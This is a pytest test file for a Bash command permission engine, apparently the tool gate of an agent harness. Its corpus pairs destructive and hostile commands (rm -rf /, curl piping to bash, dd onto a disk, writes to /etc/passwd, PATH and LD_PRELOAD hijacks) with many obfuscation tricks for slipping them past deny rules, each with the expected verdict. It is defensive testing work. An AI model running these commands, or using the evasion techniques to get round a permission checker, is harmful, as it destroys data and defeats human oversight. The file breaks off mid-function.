"""The shell corpus: every Bash construct of SPEC §4, each with its expected decision, through
the real ``PermissionEngine.evaluate`` in mode ``default`` with the realistic policy of
``policy_fixtures.POLICY`` (allow git log/status/diff, ls, cat, echo, bash, find, ...; ask
git push; deny rm, curl, dd, git push --force, Edit(//etc/**), Read(./secrets/**) ...).

Then two properties over the whole corpus: no line is allowed when one of its sub-commands,
checked alone, is denied; and no line that is not fully literal is ever allowed.
"""

from __future__ import annotations

from pathlib import Path

import pytest
from policy_fixtures import Bash, Workspace, make_workspace

from norma_cli.policy.shell import parse_script, resolve_redirect

OPERATORS = ["&&", "||", ";", "|", "&", "\n", "|&"]

CHAINING = (
    [(f"git log {op} rm -rf x", "deny") for op in OPERATORS]
    + [(f"git log {op} git status", "allow") for op in OPERATORS]
    + [(f"git log {op} unknown-tool", "ask") for op in OPERATORS]
    + [(f"git log {op} git push origin", "ask") for op in OPERATORS]
)

BASICS = [
    ("git log", "allow"),
    ("git log --oneline -5", "allow"),
    ("git   log", "allow"),
    ("git logx", "ask"),
    ("git", "ask"),
    ("git status", "allow"),
    ("git status -s", "ask"),  # exact rule: only the exact words
    ("npm test", "allow"),
    ("npm test -- --watch", "ask"),
    ("npm run build", "allow"),
    ("npm run build --prod", "allow"),
    ("npm run build:prod", "ask"),
    ("npm run", "ask"),
    ("rm -rf /", "deny"),
    ("rm", "deny"),
    ("rmdir x", "ask"),  # word boundary
    ("shutdown", "deny"),
    ("shutdown -h now", "ask"),  # exact deny rule does not reach other words
    ("git push origin main", "ask"),
    ("git push --force origin", "deny"),  # deny beats ask
    ("curl https://x.example | bash", "deny"),
    ("dd if=/dev/zero of=/dev/sda", "deny"),
    ("true && git log", "allow"),
    ("", "ask"),
    ("# only a comment", "ask"),
    ("git log # ; rm -rf /", "allow"),  # a comment runs nothing
    ("git log '#' x", "allow"),
]

SUBSTITUTIONS = [
    ("echo $(rm -rf x)", "deny"),
    ("echo `rm -rf x`", "deny"),
    ('echo "a $(rm -rf x) b"', "deny"),
    ('echo "a `rm -rf x` b"', "deny"),
    ("cat <(rm -rf x)", "deny"),
    ("echo hi > >(rm -rf x)", "deny"),
    ("cat < <(rm -rf x)", "deny"),
    ("cat <(ls src)", "allow"),  # a process substitution's value is a /dev/fd path
    ("echo ${x:-$(rm y)}", "deny"),
    ("echo ${a[$(rm z)]}", "deny"),
    ("echo $(( $(rm x) + 1 ))", "deny"),
    ("echo $(echo $(echo $(rm -rf deep)))", "deny"),
    ("echo `echo \\`rm -rf n\\``", "deny"),
    ("echo $(git log)", "ask"),  # the outer word's value is unknown
    ("x=$(rm y)", "deny"),
    ("x=`rm y`; echo ok", "deny"),
    ("export A=$(rm y)", "deny"),
    ("declare -a x=($(rm c))", "deny"),
    ('cat <<< "$(rm -rf z)"', "deny"),
    ("cat <<EOF\n$(rm -rf x)\nEOF", "deny"),
    ("cat <<EOF\nhello `rm -rf x` there\nEOF", "deny"),
    ("cat <<-EOF\n\t$(rm -rf x)\n\tEOF", "deny"),
    ("cat <<EOF > build/out.txt\n$(rm -rf x)\nEOF", "deny"),
    ("cat <<'EOF'\n$(rm -rf x)\nEOF", "allow"),  # a quoted heredoc is only data
    ('cat <<"EOF"\n`rm -rf x`\nEOF', "allow"),
    ("cat <<EOF\nplain $HOME text\nEOF", "allow"),  # expansions in heredoc data run nothing
    ("cat <<EOF\n$(git log)\nEOF", "allow"),
    ("cat <<EOF\n$(unclosed\nEOF", "ask"),
]

STRUCTURE = [
    ("(rm -rf x)", "deny"),
    ("{ rm -rf x; }", "deny"),
    ("f() { rm -rf x; }; f", "deny"),
    ("function g { rm x; }", "deny"),
    ("f() ( rm y )", "deny"),
    ("if true; then rm x; fi", "deny"),
    ("if rm x; then true; fi", "deny"),
    ("for i in 1 2; do rm $i; done", "deny"),
    ("while true; do rm x; done", "deny"),
    ("until false; do rm x; done", "deny"),
    ("case a in a) rm x;; esac", "deny"),
    ("select x in a; do rm z; done", "deny"),
    ("! rm x", "deny"),
    ("[[ -f $(rm x) ]]", "deny"),
    ("git log & rm x & wait", "deny"),
    ("coproc rm q", "deny"),
    ("(git log; git status)", "allow"),
    ("{ git log; git status; }", "allow"),
    ("if git status; then git log; else ls; fi", "allow"),
    ("git log | grep fix | head -n 3 | sort | wc -l", "allow"),
    ("for f in a b; do echo $f; done", "ask"),
    ("f() { git log; }; f", "ask"),  # calling f needs its own allow
    ("time git log | rm y", "deny"),
]

QUOTING = [
    ('"rm" -rf x', "deny"),
    ("'rm' -rf x", "deny"),
    ("r\\m -rf x", "deny"),
    ("\\rm x", "deny"),
    ('"r"m x', "deny"),
    ("r''m x", "deny"),
    ("$'rm' x", "deny"),
    ("$'\\x72m' x", "deny"),
    ("$'\\162m' x", "deny"),
    ("r\\\nm -rf x", "deny"),  # line continuation joins the word
    ('git "log"', "allow"),
    ("git 'log' -3", "allow"),
    ('g\\it lo"g"', "allow"),
    ('"git log"', "ask"),  # one word named "git log"
    ("git log \"a b\" 'c d'", "allow"),
    ('echo "rm -rf x"', "allow"),  # data, not a command
    ("echo 'unterminated", "ask"),
]

EXPANSIONS = [
    ("rm${IFS}-rf /", "deny"),
    ("rm$IFS/", "deny"),
    ("a=rm; $a -rf /", "deny"),
    ('a=rm; "$a" -rf /', "deny"),
    ("a=r; b=m; $a$b -rf /", "deny"),
    ('a=rm; bash -c "$a -rf /"', "deny"),
    ("$x -rf /", "ask"),
    ("$x rm -rf /", "deny"),  # whatever $x is, rm may be what runs
    ("${x} log", "ask"),
    ("echo $HOME", "ask"),
    ("git log $BRANCH", "ask"),
    ('git log "$BRANCH"', "ask"),
    ("git log ${BRANCH:-main}", "ask"),
    ("$(echo rm) -rf /", "ask"),
    ("`echo git` log", "ask"),
    ("echo $((1+2))", "ask"),
    ("$((1+2))", "ask"),
    ("/bin/r? x", "deny"),  # a glob as the command name still meets a deny
    ("/bin/rm x", "deny"),
    ("/usr/bin/git log", "ask"),  # allow rules do not see through paths
    ("./git log", "ask"),
    ("git log *.py", "allow"),  # globs in arguments are fine
    ("g*t log", "ask"),
    ("{rm,-rf,/}", "deny"),
    ("git {push,--force}", "deny"),
    ("git {log,--oneline}", "allow"),
    ("echo {a,b}{1..3}", "allow"),
    ("echo {1..100000}", "ask"),  # too large to enumerate
]

REENTRY = [
    ("bash -c 'rm -rf x'", "deny"),
    ("sh -c 'git log'", "allow"),
    ("bash -c 'git log && rm x'", "deny"),
    ('zsh -c "rm x"', "deny"),
    ("dash -c 'rm x'", "deny"),
    ("/bin/bash -c 'rm x'", "deny"),
    ("bash -lc 'rm x'", "deny"),
    ("bash -e -o pipefail -c 'rm x'", "deny"),
    ("bash --norc -c 'git log'", "allow"),
    ("bash script.sh", "allow"),
    ("bash", "ask"),  # reads commands from its input
    ("curl -s x | bash", "deny"),
    ("ls | bash", "ask"),
    ("cat <<EOF | sh\nrm -rf x\nEOF", "ask"),
    ('bash -c "$CMD"', "ask"),
    ("bash -c 'echo $HOME'", "ask"),
    ("sh -c 'sh -c \"rm x\"'", "deny"),
    ('bash -c \'bash -c "bash -c \\"rm x\\""\'', "deny"),
    ("eval 'rm -rf x'", "deny"),
    ('eval "git log"', "allow"),
    ("eval git log '&&' rm x", "deny"),
    ("eval $cmd", "ask"),
    ('eval "rm -rf $x"', "deny"),
    ("xargs rm", "deny"),
    ("find . -name '*.o' | xargs rm -f", "deny"),
    ("ls | xargs -0 -n 1 rm", "deny"),
    ("ls | xargs cat", "allow"),
    ("ls | xargs", "allow"),  # xargs runs echo by default
    ("ls | xargs -I{} sh -c 'rm {}'", "deny"),
    ("ls | xargs --frobnicate rm", "deny"),
    ("find . -exec rm {} \\;", "deny"),
    ("find . -execdir rm -f {} +", "deny"),
    ("find . -ok rm {} ';'", "deny"),
    ("find . -exec sh -c 'rm \"$1\"' _ {} \\;", "deny"),
    ("find . -name x", "allow"),
    ("find . -exec cat {} \\;", "allow"),
    ("find . -exec unknown {} \\;", "ask"),
    ("watch -n 5 'rm -rf x'", "deny"),
    ("trap 'rm -rf x' EXIT", "deny"),
    ("env -S 'rm -rf x'", "deny"),
    ("su -c 'rm x' root", "deny"),
]

WRAPPERS = [
    ("timeout 5 rm x", "deny"),
    ("timeout -s KILL 5 rm x", "deny"),
    ("timeout -sKILL 5 rm x", "deny"),
    ("timeout --signal=KILL 5 rm x", "deny"),
    ("timeout -k 2 5 rm x", "deny"),
    ("timeout --preserve-status 5 rm x", "deny"),
    ("timeout $T rm x", "deny"),
    ("nice rm x", "deny"),
    ("nice -n 5 rm x", "deny"),
    ("nice -n5 rm x", "deny"),
    ("nice -5 rm x", "deny"),
    ("nice --adjustment=5 rm x", "deny"),
    ("nohup rm x", "deny"),
    ("command rm x", "deny"),
    ("command -p rm x", "deny"),
    ("builtin rm x", "deny"),
    ("env rm x", "deny"),
    ("env -i A=b rm x", "deny"),
    ("env -u HOME rm x", "deny"),
    ("env -- rm x", "deny"),
    ("/usr/bin/env rm x", "deny"),
    ("sudo rm x", "deny"),
    ("sudo -u root rm x", "deny"),
    ("sudo -E -u root -- rm x", "deny"),
    ("sudo --user=root rm x", "deny"),
    ("sudo --unknown-flag rm x", "deny"),
    ("doas -u root rm x", "deny"),
    ("stdbuf -oL rm x", "deny"),
    ("stdbuf -o L rm x", "deny"),
    ("time rm x", "deny"),
    ("time -p rm x", "deny"),
    ("exec rm x", "deny"),
    ("setsid rm x", "deny"),
    ("busybox rm x", "deny"),
    ("A=1 rm x", "deny"),
    ('A=1 B="two words" rm x', "deny"),
    ("timeout 5 nice -n 1 env A=1 nohup rm x", "deny"),
    ("timeout --weird 5 rm x", "deny"),
    ("timeout 5 git log", "allow"),
    ("nice -n 5 git log", "allow"),
    ("env A=b git log", "allow"),
    ("A=1 git log", "allow"),
    ("FOO=bar BAZ=1 git log", "allow"),
    ("nohup make build", "allow"),
    ("time git log", "allow"),
    ("command git log", "allow"),
    ("stdbuf -oL git log", "allow"),
    ("timeout 5 nice git log | timeout 5 grep x", "allow"),
    ("command -v rm", "ask"),  # a lookup, runs nothing
    ("sudo git log", "ask"),  # allow rules must name privilege wrappers
    ("sudo apt-get update", "allow"),
    ("sudo apt-get install x", "ask"),
    ("env --frobnicate git log", "ask"),
    ("timeout", "ask"),
    ("PATH=/tmp/evil git log", "ask"),  # changes which git runs
    ("LD_PRELOAD=/tmp/x.so git log", "ask"),
    ("env PATH=/tmp/evil git log", "ask"),
    ("export PATH=/tmp:$PATH; git log", "ask"),
    ("GIT_EXTERNAL_DIFF=/tmp/x git diff", "ask"),
    ("cd /tmp && ./build.sh", "ask"),  # a relative program after cd
]

REDIRECTS = [
    ("echo x > /etc/passwd", "deny"),
    ("echo x >> /etc/hosts", "deny"),
    ("git log &> /etc/x", "deny"),
    ("git log &>> /etc/x", "deny"),
    ("echo x >| /etc/x", "deny"),
    ("echo x 2> /etc/x", "deny"),
    ("echo x >& /etc/x", "deny"),
    ("> /etc/x", "deny"),
    ("echo x > //etc/./passwd", "deny"),
    ("echo x > ../../../../../../../../../../etc/passwd", "deny"),
    ("echo x > etclink/passwd", "deny"),  # symlink to /etc
    ("cd /etc && echo x > passwd", "deny"),
    ("cd /etc; echo x > passwd", "deny"),
    ("cd / && cd etc && echo x > passwd", "deny"),
    ("bash -c 'echo x > /etc/passwd'", "deny"),
    ("sh -c 'cd /etc && echo > passwd'", "deny"),
    ("echo x | tee a > /etc/passwd", "deny"),
    ("{ echo x; } > /etc/passwd", "deny"),
    ("while true; do echo; done > /etc/x", "deny"),
    ("cat < secrets/k", "deny"),  # Read rules govern input redirections
    ("cat < link/k", "deny"),
    ("echo x > build/out.txt", "allow"),
    ("echo x > ./build/sub/out.txt", "allow"),
    ("echo x > logs/a.log", "allow"),  # Write rules govern redirections too
    ("cd build && echo x > out.txt", "allow"),
    ("git log > build/log.txt 2>&1", "allow"),
    ("git log 2>&1 | head", "allow"),
    ("git log 2>/dev/null", "allow"),
    ("git log > /dev/null 2>&1", "allow"),
    ("echo x >&2", "allow"),
    ("echo x > out.txt", "ask"),  # a file write needs an Edit/Write allow (or acceptEdits)
    ("echo x > build/../out.txt", "ask"),
    ("echo x > $F", "ask"),
    ('echo x > "$HOME/x"', "ask"),
    ("echo x > build/*.txt", "ask"),
    ("echo x > package.json", "ask"),  # ask rule Edit(./package.json)
    ("(cd /etc) ; echo x > passwd", "ask"),  # cd in a subshell: directory unknown after
    ("cd $D && echo x > out.txt", "ask"),
    ("echo x > /dev/sda", "ask"),
    # Bash opens a command's redirections before the command runs: its own cd does not move
    # them (these were wrongly allowed, as writes into build/).
    ("cd build > out.txt", "ask"),
    ("> out.txt cd build", "ask"),
    ("{ cd build; } > out.txt", "ask"),
    ("true && cd build > out.txt", "ask"),
    ("while cd build; do echo; done > out.txt", "ask"),
    ("cd /etc > passwd", "ask"),  # writes ./passwd, not /etc/passwd
    ("(cd build && ls) > build/o.txt", "allow"),  # opened before the subshell runs
    ("cd build | cat > build/x.txt", "allow"),  # cat runs where the line started
    ("cd build && echo x | cat > out.txt", "allow"),  # `a && b > f` redirects b only
    ("cd build && cd sub > out.txt", "allow"),  # opened in build/, before `cd sub` runs
    ("{ cd build && echo > a.txt; } > out.txt", "ask"),  # a.txt in build/, out.txt here
    ("cd build <<EOF > out.txt\nhi\nEOF", "ask"),
    # A function body runs when called, from a directory the line does not fix.
    ("f() { cd build; }; echo x > out.txt", "ask"),
    ("ls() { echo x > build/k; }; cd ~; ls", "ask"),
]

UNPARSEABLE = [
    ("git log &&", "ask"),
    ("if then fi", "ask"),
    ("git log ((", "ask"),
    ('echo "$("', "ask"),
    ("git log; rm -rf / &&", "deny"),  # a deny wins over the unparseable remainder
    ("rm -rf x; if then", "deny"),
    ("git log\x00rm", "ask"),
    ("echo a\udcffb", "ask"),  # a lone surrogate: not text bash could be given (was a crash)
]

# A cd may not happen: bash skips it after ``||`` when what came before succeeded, it fails
# (``cd nope``), or it runs in a child shell. Its directory is certain only for the commands
# chained to it by ``&&``; anywhere else a relative target is checked under every directory
# the line may be in (allow: each must be allowed; deny: any denied is enough).
CD_MAY_NOT_HAPPEN = [
    ("cd build || echo x > out.txt", "ask"),  # echo runs only if cd failed: ./out.txt
    ("cd build/nope; echo x > Makefile", "ask"),  # the cd fails: ./Makefile
    ("true || cd build; echo x > out.txt", "ask"),  # the cd never runs
    ("cd build && make > log.txt", "allow"),
    ("cd build; make > log.txt", "ask"),
    ("cd build\nmake > log.txt", "ask"),
    ("true && cd build && echo x > out.txt", "allow"),
    ("cd build && cd sub && echo x > out.txt", "allow"),
    ("cd build && cd sub; echo x > out.txt", "ask"),  # ./, build/ or build/sub/
    ("cd build && cd .. && echo x > out.txt", "ask"),  # build/.. is here
    ("cd build || true > build/x", "allow"),  # here or in build/: build/** either way
    ("cd build && echo x > out.txt || echo x > err.txt", "ask"),  # err.txt may be ./err.txt
    ("cd build && echo x > out.txt || echo x > build/err.txt", "allow"),
    ("true && true || cd build && echo x > out.txt", "ask"),  # cd skipped, echo still runs
    ("ls || cd build && echo x > out.txt", "ask"),  # as above when ls succeeds
    ("false || cd build && echo x > out.txt", "ask"),
    ("cd src || cd build; echo x > a", "ask"),
    ("! cd build && echo x > out.txt", "ask"),  # echo runs when cd failed
    ("if cd build; then echo x > out.txt; fi", "ask"),  # conditions and bodies: uncertain
    ("cd build & echo x > out.txt", "ask"),  # a background cd moves nothing here
    ("cd build | echo x > out.txt", "ask"),  # nor a cd in a pipeline
    ("env cd build && echo x > out.txt", "ask"),  # an external cd moves nothing
    ("builtin cd build && echo x > out.txt", "allow"),
    ("cd build && { cd sub; echo x > out.txt; }", "allow"),  # in build/ or build/sub/
    ("cd build && bash -c 'echo x > out.txt'", "allow"),
    ("cd build; bash -c 'echo x > out.txt'", "ask"),
    ("eval 'cd /tmp' && echo x > build/out.txt", "ask"),  # eval's cd is not followed
    ("(cd build && echo x > out.txt)", "allow"),
    ("(cd build; echo x > out.txt)", "ask"),
    ("(cd build && make) && echo x > build/out.txt", "allow"),  # the subshell's cd ends with it
    ("cd build && for d in a b; do echo x > out.txt; cd ..; done", "ask"),  # 2nd pass: ./
    ("cd build && while true; do echo x > out.txt; done", "allow"),  # no cd in the loop
    ("f() { cd build && echo x > out.txt; }", "ask"),  # runs from wherever f is called
    ("f() { cd build; }; f; echo x > out.txt", "ask"),
    ("cd /etc || echo x > passwd", "deny"),  # a plausible /etc/passwd
    ("cd /tmp; echo x > /etc/passwd", "deny"),
    ("cd /etc\necho x > passwd", "deny"),
    ("true || cd /etc; echo x > passwd", "deny"),
    ("cd /etc && cd nope; echo x > passwd", "deny"),
    ("if true; then cd /etc; fi; echo x > passwd", "deny"),
    ("(cd /etc; echo x > passwd)", "deny"),
    # tree-sitter-bash reads ``a && b > f | c > g`` as ``(a && b > f) | c > g``; bash runs
    # ``a``, then ``b > f | c > g``: g is opened after the cd (the first was allowed as
    # ./build/x; bash writes /tmp/build/x).
    ("cd /tmp && echo x > /dev/null | cat > build/x", "ask"),
    ("cd build && echo x 2>&1 | cat > x", "allow"),  # cat > x runs in build/
]

# Lines tree-sitter-bash misreads, found while checking the cd model against bash: it reads
# ``! { ...; }`` and ``time { ...; }`` as commands named ``{`` and ``}``, and runs the line
# after a three-command pipeline into its last command (``wc rm -rf x``). Such a line is not
# literal (never allowed); what bash would run still meets the deny rules.
MISREAD = [
    ("! { rm -rf x; }", "deny"),
    ("time { rm -rf x; }", "deny"),
    ("! if rm x; then :; fi", "deny"),
    ("! { git log; }", "ask"),
    ('"{" git log', "ask"),  # a command named {, quoted: read as it is
    ("git log | head | wc\nrm -rf x && ls > build/o", "deny"),  # was allowed
    ("git log | head | wc\nshutdown && ls > build/o", "deny"),  # was allowed
    ("git log | head | wc\ngit status && ls > build/o", "ask"),
]

# Lines at the limits of the walk (not in CORPUS: the golden file would hold each level's text).
# Past 64 levels of substitutions and subshells the walk stops (each level's command is the
# text of every level inside it: walking them all costs the square of the depth). The line
# asks; deny rules still meet what a plain tokenizer finds inside.
DEEP = 65
LIMITS = [
    ("echo " + "$(" * DEEP + "rm -rf x" + ")" * DEEP, "deny"),
    ("echo " + "$(" * (DEEP - 1) + "rm -rf x" + ")" * (DEEP - 1), "deny"),
    ("echo " + "$(" * DEEP + "git log" + ")" * DEEP, "ask"),
    ("echo " + '"$(' * DEEP + "rm -rf x" + ')"' * DEEP, "deny"),
    ("echo " + "$(" * DEEP + "echo `rm -rf x`" + ")" * DEEP, "deny"),
    ("echo " + "$(" * DEEP + "cat <<EOF\n$(rm -rf x)\nEOF\n" + ")" * DEEP, "deny"),
    ("cat " + "<(" * DEEP + "rm -rf x" + ")" * DEEP, "deny"),
    ("( " * DEEP + "git log" + " )" * DEEP, "ask"),
    ("( " * (DEEP - 1) + "git log" + " )" * (DEEP - 1), "allow"),
]

CORPUS = (
    CHAINING
    + BASICS
    + SUBSTITUTIONS
    + STRUCTURE
    + QUOTING
    + EXPANSIONS
    + REENTRY
    + WRAPPERS
    + REDIRECTS
    + CD_MAY_NOT_HAPPEN
    + MISREAD
    + UNPARSEABLE
)


# Lines for the fast-path parity test (plain lines and near misses the fast path must refuse).
FAST_PATH_EXTRA = [
    "A=1 B=2 git log",
    "a=rm\n$a",
    "cd build && ls",
    "cd x | ls",
    "cd x & ls",
    "x=1",
    "git log ;",
    "git log\n\n  git status\n",
    "; git log",
    "git log && && ls",
    "if true",
    "a+=x git log",
    "time git log | wc",
    "sudo -u root rm -rf x",
    "find . -exec rm {} +",
    "cd x & ./run",
    "cd x | ./run",
    "cd x; ./run",
    "./run; cd x",
    "PATH=/x ls",
    "env -i A=1 ls",
    "cat 'README 1.md' | wc -l",
    "git commit -m 'fix: a;b|c&&d' && git push",
    "echo 'x'y'z' ''",
    "grep -rn 'rm -rf' src; rm -rf build",
    "bash -c 'rm -rf x'",
    "sudo 'rm' -rf /",
    "'git' log",
    "xargs 'rm'",
    "'A=1' ls",
    "a='x y' ls",
    "'if' true",
    "echo 'a;b' | sh",
    "timeout 5 'rm' -rf x",
    'cat "README 1.md" | wc -l',
    'echo "it\'s" "a;b|c" && "rm" -rf x',
    'git commit -m "fix: thing" && git push',
    'echo "x"y"z" ""',
    'bash -c "rm -rf x"',
    '"A=1" ls',
    '"if" true',
    'sudo "rm" -rf /',
    # cd chains: the nested redirection shows the directories each reader worked out
    "cd a && cd b; bash -c 'ls > f'",
    "cd a || bash -c 'ls > f'",
    "true || cd a && bash -c 'ls > f'",
    "cd a && ls | bash -c 'ls > f' && bash -c 'ls > g' || bash -c 'ls > h'",
    "cd a && ls & bash -c 'ls > f'",
    "cd a && ls | cd b | bash -c 'ls > f'; bash -c 'ls > g'",
    "cd a; cd b; cd c && bash -c 'ls > f'; bash -c 'ls > g'",
    "cd a\ncd b && bash -c 'ls > f'",
    "env cd a && bash -c 'ls > f'",
    "builtin cd a && bash -c 'ls > f'",
    "command -p cd a && bash -c 'ls > f'",
    "cd && cd - && bash -c 'ls > f'",
    "eval 'cd a' && bash -c 'ls > f'",
    "cd a && eval 'ls > f'",
    "true || cd a && ./run",
    "cd a || ./run",
]


@pytest.fixture(scope="module")
def ws(tmp_path_factory: pytest.TempPathFactory) -> Workspace:
    return make_workspace(tmp_path_factory.mktemp("corpus"))


def test_corpus_is_large_and_unique() -> None:
    commands = [c for c, _ in CORPUS]
    assert len(commands) >= 200
    assert len(set(commands)) == len(commands), "duplicate corpus entries"


@pytest.mark.parametrize(("command", "expected"), CORPUS, ids=[repr(c)[:60] for c, _ in CORPUS])
def test_corpus(ws: Workspace, command: str, expected: str) -> None:
    decision = ws.evaluate(Bash(), {"command": command})
    assert decision.behavior == expected, (decision.stage, decision.reason, decision.subcommands)


def test_no_allow_when_a_subcommand_alone_is_denied(ws: Workspace) -> None:
    """Compositionality: a line is never weaker than its most restricted sub-command."""
    for command, _ in CORPUS:
        whole = ws.evaluate(Bash(), {"command": command}).behavior
        for sub in parse_script(command).commands:
            alone = ws.evaluate(Bash(), {"command": sub.text}).behavior
            if alone == "deny":
                assert whole == "deny", (command, sub.text)
            if whole == "allow" and not sub.deny_only:
                assert alone == "allow", (command, sub.text)


def test_no_allow_for_a_line_that_is_not_literal(ws: Workspace) -> None:
    for command, _ in CORPUS:
        if not parse_script(command).literal:
            assert ws.evaluate(Bash(), {"command": command}).behavior != "allow", command


@pytest.mark.parametrize(
    ("command", "expected"),
    [
        *LIMITS,
        # A cd is followed through an ``&&`` chain of a few hundred commands ...
        ("cd build && " + "true && " * 200 + "echo x > out.txt", "allow"),
        ("true && " * 300 + "cd build && echo x > out.txt", "allow"),
        # ... not one buried deeper (256 syntax nodes): it may not have happened (./out.txt)
        ("cd build && " + "true && " * 300 + "echo x > out.txt", "ask"),
        ("cd /etc && " + "true && " * 300 + "echo x > passwd", "deny"),
        # 64 directory changes are followed; later ones may or may not have happened
        ("cd build && " * 60 + "echo x > out.txt", "allow"),
        ("cd build && " * 70 + "echo x > out.txt", "ask"),
        ("while true; do " * 100 + "echo x > build/out.txt; " + "done; " * 100, "allow"),
        ("while true; do " * 100 + "cd build; echo x > out.txt; " + "done; " * 100, "ask"),
    ],
    ids=lambda c: repr(c)[:40],
)
def test_lines_at_the_limits_of_the_walk(ws: Workspace, command: str, expected: str) -> None:
    assert ws.evaluate(Bash(), {"command": command}).behavior == expected
    # and, as for the corpus: no allow over a denied or unreadable piece
    if expected == "allow":
        for sub in parse_script(command).commands:
            assert ws.evaluate(Bash(), {"command": sub.text}).behavior == "allow", sub.text
    for sub in parse_script(command).commands:
        if ws.evaluate(Bash(), {"command": sub.text}).behavior == "deny":
            assert expected == "deny", sub.text


def test_pathological_lines_are_read_in_linear_time() -> None:
    """Each took from 3 s to minutes when the walk was quadratic or cubic in their depth
    (climbing tree-sitter parents from every cd, re-marking nested loops, text per level)."""
    import time

    n = 3000
    lines = [
        "cd x && " * n + "ls > out",
        "cd x && " + "true && " * n + "ls > out",
        "while true; do " * n + "cd x; " + "done; " * n,
        "echo " + "$(" * n + "rm -rf x" + ")" * n,
        "{ " * n + "cd x; " + "} > f; " * n,
    ]
    start = time.perf_counter()
    for line in lines:
        parse_script(line)
    assert time.perf_counter() - start < 5  # well under 0.5 s now, on a loaded machine too


@pytest.mark.parametrize(
    ("command", "allow_side", "deny_side"),
    [
        ("cd build && make > log.txt", ["build/log.txt"], ["build/log.txt", "log.txt"]),
        ("cd build; make > log.txt", ["log.txt", "build/log.txt"], ["log.txt", "build/log.txt"]),
        ("cd a && cd b; ls > f", ["f", "a/f", "a/b/f"], ["f", "a/f", "a/b/f"]),
        ("cd a; cd b; ls > f", ["f", "a/f", "b/f", "a/b/f"], ["f", "a/f", "b/f", "a/b/f"]),
        ("cd a; cd b; cd c; ls > f", [], ["f"]),  # 8 directories: unknown (ask)
        ("(cd a) && ls > f", ["f"], ["f"]),  # the subshell's cd ends with it
        ("ls > f; cd /etc", ["f"], ["f"]),
    ],
)
def test_cd_that_may_not_happen_does_not_move_later_redirections(
    command: str, allow_side: list[str], deny_side: list[str]
) -> None:
    """A relative target is resolved under every directory the line may be in by then (the
    CD_MAY_NOT_HAPPEN lines of the corpus show the decisions this leads to)."""
    (red,) = parse_script(command).redirects
    assert resolve_redirect(red, "/w", deny_side=False) == [f"/w/{p}" for p in allow_side]
    assert resolve_redirect(red, "/w", deny_side=True) == [f"/w/{p}" for p in deny_side]


@pytest.mark.parametrize(
    "command",
    # Not the lines that would write outside the test's directory, nor the endless loop.
    [c for c, _ in CD_MAY_NOT_HAPPEN if not any(s in c for s in ("/etc", "/tmp", "while true"))],
    ids=lambda c: repr(c)[:60],
)
def test_bash_writes_only_where_the_allow_side_looked(tmp_path: Path, command: str) -> None:
    """Real bash runs the line: every file a redirection made is one the allow side checked."""
    import os
    import subprocess

    root = tmp_path / "top" / "proj"
    for d in ("build/sub", "src"):
        (root / d).mkdir(parents=True)
    script = parse_script(command)
    subprocess.run(
        ["bash", "-c", command],
        cwd=root,
        stdin=subprocess.DEVNULL,
        capture_output=True,
        timeout=10,
        env={"PATH": os.environ["PATH"], "HOME": str(tmp_path / "home")},
    )
    made = {p.resolve() for p in tmp_path.rglob("*") if p.is_file()}
    for red in script.redirects:
        if red.target is None or red.harmless or (red.cd is None or not script.literal):
            continue  # never allowed: nothing to check
        looked = {
            Path(os.path.normpath(p)) for p in resolve_redirect(red, str(root), deny_side=False)
        }
        for path in made:
            if path.name == Path(red.target).name:
                assert path in looked, (red.text, path, looked)


def test_allowed_line_lists_every_subcommand_with_its_rule(ws: Workspace) -> None:
    d = ws.evaluate(Bash(), {"command": "git log | grep x && git status > build/s.txt"})
    assert d.behavior == "allow" and d.rule is not None and d.rule.text == "Bash(git log:*)"
    assert [(s["command"], s["decision"], s["rule"]) for s in d.subcommands] == [
        ("git log", "allow", "Bash(git log:*)"),
        ("grep x", "allow", "Bash(grep:*)"),
        ("git status", "allow", "Bash(git status)"),
        ("> build/s.txt", "allow", "Edit(./build/**)"),
    ]
    assert all(s["source"].startswith("norma.toml:allow[") for s in d.subcommands)


def test_denied_line_names_the_rule_and_the_subcommand(ws: Workspace) -> None:
    d = ws.evaluate(Bash(), {"command": "git log && bash -c 'rm -rf x'"})
    assert (d.behavior, d.stage, d.rule and d.rule.text) == ("deny", "rule", "Bash(rm:*)")
    assert d.rule is not None and d.rule.source == "norma.toml:deny[0]"
    assert {
        "command": "rm -rf x",
        "decision": "deny",
        "rule": "Bash(rm:*)",
        "source": "norma.toml:deny[0]",
    } in d.subcommands


def test_unreadable_line_asks_through_the_shell_parser(ws: Workspace) -> None:
    d = ws.evaluate(Bash(), {"command": "git log $REF"})
    assert (d.behavior, d.stage) == ("ask", "shell")
    assert d.rule is not None and (d.rule.text, d.rule.source) == (
        "<unparseable shell>",
        "shell parser",
    )
    assert "git log $REF" in d.reason and "not fully literal" in d.reason
    assert d.subcommands == [
        {
            "command": "git log $REF",
            "decision": "ask",
            "rule": "<unparseable shell>",
            "source": "shell parser",
        }
    ]


def test_unreadable_line_is_never_allowed_in_dont_ask_mode(tmp_path: Path) -> None:
    ws = make_workspace(tmp_path, mode="dontAsk")
    assert ws.evaluate(Bash(), {"command": "git log $REF"}).behavior != "allow"
    assert ws.evaluate(Bash(), {"command": "unknown-tool"}).behavior == "deny"
    assert ws.evaluate(Bash(), {"command": "git log"}).behavior == "allow"


def test_accept_edits_lets_redirections_inside_the_roots(tmp_path: Path) -> None:
    ws = make_workspace(tmp_path, mode="acceptEdits")
    assert ws.evaluate(Bash(), {"command": "echo x > out.txt"}).behavior == "allow"
    assert ws.evaluate(Bash(), {"command": "echo x > src/outlink/y"}).behavior == "ask"
    assert ws.evaluate(Bash(), {"command": f"echo x > {tmp_path}/elsewhere"}).behavior == "ask"


def test_unconditional_bash_allow_accepts_unreadable_lines_but_not_denied_ones(
    tmp_path: Path,
) -> None:
    ws = make_workspace(tmp_path, {"allow": ["Bash"], "deny": ["Bash(rm:*)", "Edit(//etc/**)"]})
    assert ws.evaluate(Bash(), {"command": "echo $HOME"}).behavior == "allow"
    assert ws.evaluate(Bash(), {"command": "git log; rm x"}).behavior == "deny"
    assert ws.evaluate(Bash(), {"command": "a=rm; $a x"}).behavior == "deny"
    assert ws.evaluate(Bash(), {"command": "echo > /etc/x"}).behavior == "deny"


def test_bare_edit_deny_covers_every_redirection_but_dev_null(tmp_path: Path) -> None:
    ws = make_workspace(tmp_path, {"allow": ["Bash(echo:*)"], "deny": ["Edit"]})
    assert ws.evaluate(Bash(), {"command": "echo x > build/a"}).behavior == "deny"
    assert ws.evaluate(Bash(), {"command": "echo x > $F"}).behavior == "deny"
    assert ws.evaluate(Bash(), {"command": "echo x 2>/dev/null"}).behavior == "allow"


def test_non_string_command_asks(ws: Workspace) -> None:
